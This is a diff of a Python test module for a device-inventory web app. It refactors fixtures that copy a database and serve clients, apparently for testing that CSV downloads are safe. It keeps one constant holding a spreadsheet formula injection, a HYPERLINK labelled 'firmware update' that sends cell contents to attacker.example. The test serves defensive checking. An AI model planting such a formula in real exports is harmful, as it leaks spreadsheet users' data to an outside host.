@@ -6,7 +6,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-import sqlite3
 from collections.abc import Iterator
 
 import pytest
@@ -17,7 +16,7 @@ from covered.store import open_store
 from covered.store.schema import DeviceRow, FindingRow
 from covered.web.downloads import DEVICE_COLUMNS, FINDING_COLUMNS
 from covered.web.queries import PAGE_SIZE
-from tests.web.conftest import Clients, Estate, serving
+from tests.web.conftest import Clients, Estate, clients_of, copy_database, serving
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"firmware update")'
 
@@ -26,9 +25,7 @@ FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"firmware update")'
 def own(estate: Estate, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Estate]:
     """A copy of the estate with one device's model set to a spreadsheet formula, served apart."""
     folder = tmp_path_factory.mktemp("downloads")
-    db = folder / "covered.db"
-    with sqlite3.connect(estate.db) as source, sqlite3.connect(db) as target:
-        source.backup(target)
+    db = copy_database(estate, folder)
     store = open_store(db)
     with store.session() as session, session.begin():
         first = session.scalar(select(func.min(DeviceRow.id)))
@@ -40,11 +37,8 @@ def own(estate: Estate, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Es
 
 @pytest.fixture
 def users(own: Estate) -> Iterator[Clients]:
-    made = Clients(own)
-    try:
+    with clients_of(own) as made:
         yield made
-    finally:
-        made.close()
 
 
 def _csv(body: bytes) -> list[list[str]]:
